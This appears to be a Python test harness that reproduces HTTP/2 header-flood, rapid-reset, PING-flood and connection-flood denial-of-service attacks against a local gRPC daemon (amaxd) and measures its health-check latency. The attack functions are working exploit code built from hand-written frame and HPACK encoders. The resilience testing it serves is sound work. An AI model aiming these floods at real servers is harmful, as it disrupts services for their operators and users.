
"""Header-flood reproducer for amaxd (CVE-2023-33953 class).

One process (the attacker) speaks raw HTTP/2 to the daemon's Unix socket;
meanwhile this process calls grpc.health.v1.Health/Check every `interval`
seconds on an already connected channel and records each call's latency.

Attacks (ATTACKS):
  split   HEADERS without END_HEADERS, then endless CONTINUATION frames that
          carry the bytes of ONE literal header whose declared length is 1 GiB
          (the 1.51 HPACK parser re-copies the incomplete header on every
          frame: quadratic CPU, unbounded memory)
  many    HEADERS without END_HEADERS, then endless CONTINUATION frames of 7
          complete 1 KiB literal headers each (1.51 checks the metadata limit
          per frame, so every header is kept: unbounded memory)
  big     back-to-back complete requests whose header block is 1 MiB
          (HEADERS + 63 CONTINUATION, END_HEADERS) on new streams
  connect 10^4 plain connect()/close() on the socket in a tight loop
  reset   rapid reset: HEADERS + DATA + RST_STREAM for new streams, endlessly
  ping    endless PING frames
Every HTTP/2 attack also comes in an "-ack" variant that ACKs the server's
SETTINGS (by default it never does, which in gRPC <= 1.5x leaves the
acknowledged MAX_HEADER_LIST_SIZE at its 16 MiB default).

As a library (pytest):  measure(socket_path, attack, duration) -> dict with
"latencies" (seconds, one per Health call, deadline-exceeded counted as the
deadline), "max", "median", "failed", "attacker" (bytes sent, reconnects,
GOAWAY/RST_STREAM seen) and "fresh" (latency of a Health call on a NEW
connection after the flood).

As a script:  flood.py --bin PATH [--attack split] [--runs 3] [-- daemon args]
starts the daemon itself on a temporary socket for every run (or use
--socket to hit a running daemon).
"""
import argparse
import multiprocessing as mp
import os
import signal
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time

HEALTH = "/grpc.health.v1.Health/Check"
# A new channel must not share a connection with an older one (grpcio pools
# subchannels by target), or "a new connection" would silently reuse one.
FRESH = [("grpc.use_local_subchannel_pool", 1)]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE default; gRPC never advertises less


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def hpack_int(n, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out = [first | limit]
    n -= limit
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def lit(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path=HEALTH):
    """A gRPC request's header block using the static table only."""
    return (b"\x83"  # :method POST
            + b"\x86"  # :scheme http
            + b"\x04" + hpack_int(len(path), 7) + path.encode()  # :path, indexed name 4
            + b"\x01" + hpack_int(9, 7) + b"localhost"  # :authority
            + b"\x0f\x10" + hpack_int(16, 7) + b"application/grpc"  # content-type (31)
            + lit(b"te", b"trailers"))


def _connect(path, timeout=5.0):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(path)
    return s


class _Conn:
    """One raw HTTP/2 connection; a thread drains and counts what the server sends."""

    def __init__(self, path, ack_settings, stats):
        self.s = _connect(path)
        self.s.settimeout(1.0)
        self.ack = ack_settings
        self.stats = stats
        self.dead = False
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._reader, daemon=True).start()

    def _reader(self):
        buf = b""
        while not self.dead:
            try:
                d = self.s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                break
            if not d:
                break
            buf += d
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                t, fl = buf[3], buf[4]
                buf = buf[9 + n:]
                if t == SETTINGS and not fl & ACK and self.ack:
                    try:
                        self.s.sendall(frame(SETTINGS, ACK, 0))
                    except OSError:
                        pass
                elif t == GOAWAY:
                    self.stats["goaway"] += 1
                elif t == RST_STREAM:
                    self.stats["rst_stream"] += 1
        self.dead = True

    def send(self, data):
        while True:
            if self.dead:
                raise ConnectionError("closed by the server")
            try:
                self.s.sendall(data)
                self.stats["bytes"] += len(data)
                return
            except socket.timeout:
                continue  # the server is not reading; keep trying while the flood lasts

    def close(self):
        self.dead = True
        try:
            self.s.close()
        except OSError:
            pass


def _flood(path, stop, ack, stats, first, endless=None, each=None):
    """Keeps one connection flooding; reconnects when the server closes it."""
    while not stop.is_set():
        try:
            c = _Conn(path, ack, stats)
        except OSError:
            stats["connect_errors"] += 1
            time.sleep(0.01)
            continue
        stats["connections"] += 1
        try:
            sid = 1
            if endless is not None:
                c.send(first(sid))
                while not stop.is_set():
                    c.send(endless)
            else:
                while not stop.is_set():
                    c.send(each(sid))
                    sid += 2
        except (ConnectionError, OSError):
            pass
        finally:
            c.close()


def attack_split(path, stop, stats, ack=False):
    # HEADERS: the request, then a literal header whose value claims 1 GiB.
    head = request_block() + b"\x00" + hpack_int(7, 7) + b"x-flood" + hpack_int(1 << 30, 7)
    cont = frame(CONTINUATION, 0, 1, b"a" * FRAME) * 16
    _flood(path, stop, ack, stats, lambda sid: frame(HEADERS, 0, sid, head), endless=cont)


def attack_many(path, stop, stats, ack=False):
    # 7 x 1 KiB per frame: under the default 8 KiB limit, which 1.51 applies
    # to each frame, not to the header block.
    hdrs = b"".join(lit(b"x-f%03d" % i, b"v" * 1000) for i in range(7))
    cont = frame(CONTINUATION, 0, 1, hdrs) * 32
    _flood(path, stop, ack, stats, lambda sid: frame(HEADERS, 0, sid, request_block()), endless=cont)


def attack_big(path, stop, stats, ack=False, block=1 << 20):
    body = request_block() + b"".join(lit(b"x-f%05d" % i, b"v" * 1000)
                                      for i in range(block // 1010))
    chunks = [body[i:i + FRAME] for i in range(0, len(body), FRAME)]

    def each(sid):
        out = [frame(HEADERS, END_STREAM if len(chunks) > 1 else END_STREAM | END_HEADERS, sid, chunks[0])]
        for i, ch in enumerate(chunks[1:], 1):
            out.append(frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, sid, ch))
        return b"".join(out)

    _flood(path, stop, ack, stats, None, each=each)


def attack_reset(path, stop, stats, ack=False, batch=100):
    """Rapid reset (CVE-2023-44487 class): Health requests cancelled at once."""
    req = request_block()
    msg = b"\x00\x00\x00\x00\x00"  # an empty gRPC message

    def each(sid):
        out = []
        for k in range(batch):
            s = sid + 2 * k
            out.append(frame(HEADERS, END_HEADERS, s, req) + frame(DATA, END_STREAM, s, msg)
                       + frame(RST_STREAM, 0, s, struct.pack(">I", 8)))
        return b"".join(out)

    state = {"sid": 1}

    def each_batch(sid):
        b = each(state["sid"])
        state["sid"] += 2 * batch
        return b

    _flood(path, stop, ack, stats, None, each=each_batch)


def attack_ping(path, stop, stats, ack=False):
    """PING flood: every PING needs an ACK written back."""
    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    _flood(path, stop, ack, stats, None, each=lambda sid: pings)


def attack_connect(path, stop, stats, n=10000):
    for _ in range(n):
        if stop.is_set():
            break
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            s.close()
            stats["connections"] += 1
        except OSError:
            stats["connect_errors"] += 1
    stats["done_at"] = time.monotonic()
    stop.wait()


ATTACKS = {"split": attack_split, "many": attack_many, "big": attack_big, "connect": attack_connect,
           "reset": attack_reset, "ping": attack_ping}


def _run_attack(name, path, stop, stats):
    """name: split|many|big|connect, optionally "-ack" (ACK the server's
    SETTINGS) and "-xK" (K flooding connections at once)."""
    parts = name.split("-")
    fn, kw, k = ATTACKS[parts[0]], {}, 1
    for p in parts[1:]:
        if p == "ack":
            kw["ack"] = True
        elif p.startswith("x"):
            k = int(p[1:])
    ts = [threading.Thread(target=fn, args=(path, stop, stats), kwargs=kw, daemon=True)
          for _ in range(k)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


def _attacker_main(name, path, stop, out):
    stats = {"bytes": 0, "connections": 0, "connect_errors": 0, "goaway": 0, "rst_stream": 0}
    t0 = time.monotonic()
    try:
        _run_attack(name, path, stop, stats)
    finally:
        if "done_at" in stats:
            stats["done_after_s"] = round(stats.pop("done_at") - t0, 2)
        out.put(stats)


def health_call(channel, timeout):
    """One Health/Check; returns (latency_s, ok)."""
    import grpc
    fn = channel.unary_unary(HEALTH)
    t = time.monotonic()
    try:
        resp = fn(b"", timeout=timeout)
        return time.monotonic() - t, resp == b"\x08\x01"
    except grpc.RpcError:
        return time.monotonic() - t, False


def measure(path, attack="split", duration=8.0, interval=0.1, timeout=20.0):
    import grpc
    ctx = mp.get_context("spawn")
    stop, out = ctx.Event(), ctx.Queue()
    ch = grpc.insecure_channel("unix:" + path)
    grpc.channel_ready_future(ch).result(timeout=10)
    base = [health_call(ch, timeout)[0] for _ in range(5)]
    proc = ctx.Process(target=_attacker_main, args=(attack, path, stop, out), daemon=True)
    proc.start()
    time.sleep(0.3)  # let the attacker get going (spawn start-up)
    lat, failed = [], 0
    end = time.monotonic() + duration
    while time.monotonic() < end:
        t = time.monotonic()
        d, ok = health_call(ch, timeout)
        lat.append(d)
        failed += not ok
        time.sleep(max(0.0, interval - (time.monotonic() - t)))
    stop.set()
    try:
        att = out.get(timeout=10)
    except Exception:
        att = {}
    proc.join(5)
    if proc.is_alive():
        proc.kill()
    ch.close()
    ch2 = grpc.insecure_channel("unix:" + path, options=FRESH)
    fresh, fresh_ok = health_call(ch2, timeout)
    ch2.close()
    return {"attack": attack, "latencies": lat, "n": len(lat), "failed": failed,
            "median": statistics.median(lat), "max": max(lat), "baseline_max": max(base),
            "fresh": fresh if fresh_ok else None, "attacker": att}


def start_daemon(binary, sock, args=(), env=None):
    log = open(sock + ".log", "wb")
    p = subprocess.Popen([binary, f"--socket={sock}", "--log-level=info", *args],
                         stdout=log, stderr=subprocess.STDOUT, env=env)
    end = time.time() + 20
    while time.time() < end:
        if os.path.exists(sock):
            try:
                _connect(sock, 1).close()
                return p
            except OSError:
                pass
        if p.poll() is not None:
            break
        time.sleep(0.05)
    raise RuntimeError(f"amaxd did not start (rc={p.poll()}): see {sock}.log")


def stop_daemon(p, timeout=20):
    if p.poll() is None:
        p.send_signal(signal.SIGTERM)
    try:
        return p.wait(timeout)
    except subprocess.TimeoutExpired:
        p.kill()
        p.wait()
        return "killed"


def _rss_mib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) // 1024
    except OSError:
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default="b/amaxd")
    ap.add_argument("--socket")
    ap.add_argument("--attack", default="split", help="split|many|big|connect[-ack][-xK]")
    ap.add_argument("--duration", type=float, default=8.0)
    ap.add_argument("--runs", type=int, default=1)
    ap.add_argument("--env", action="append", default=[], help="NAME=VALUE for the daemon")
    ap.add_argument("daemon_args", nargs="*")
    a = ap.parse_args()
    worst = 0.0
    for run in range(a.runs):
        p = None
        tmp = None
        sock = a.socket
        if sock is None:
            tmp = tempfile.mkdtemp(prefix="flood-")
            sock = os.path.join(tmp, "amaxd.sock")
            env = dict(os.environ)
            env.update(kv.split("=", 1) for kv in a.env)
            p = start_daemon(a.bin, sock, a.daemon_args, env)
        r = measure(sock, a.attack, a.duration)
        extra = ""
        if p is not None:
            extra = f" daemon_peak_rss={_rss_mib(p.pid)}MiB rc={stop_daemon(p)}"
        lat = sorted(r["latencies"])
        print(f"run {run}: attack={a.attack} calls={r['n']} failed={r['failed']} "
              f"median={r['median']*1000:.1f}ms p90={lat[int(0.9*(len(lat)-1))]*1000:.1f}ms "
              f"max={r['max']*1000:.1f}ms baseline_max={r['baseline_max']*1000:.1f}ms "
              f"fresh_after={'FAIL' if r['fresh'] is None else '%.1fms' % (r['fresh']*1000)} "
              f"attacker={r['attacker']}{extra}", flush=True)
        worst = max(worst, r["max"])
    print(f"worst max latency over {a.runs} runs: {worst*1000:.1f} ms")
    return 0 if worst < 1.0 else 1


if __name__ == "__main__":
    sys.exit(main())
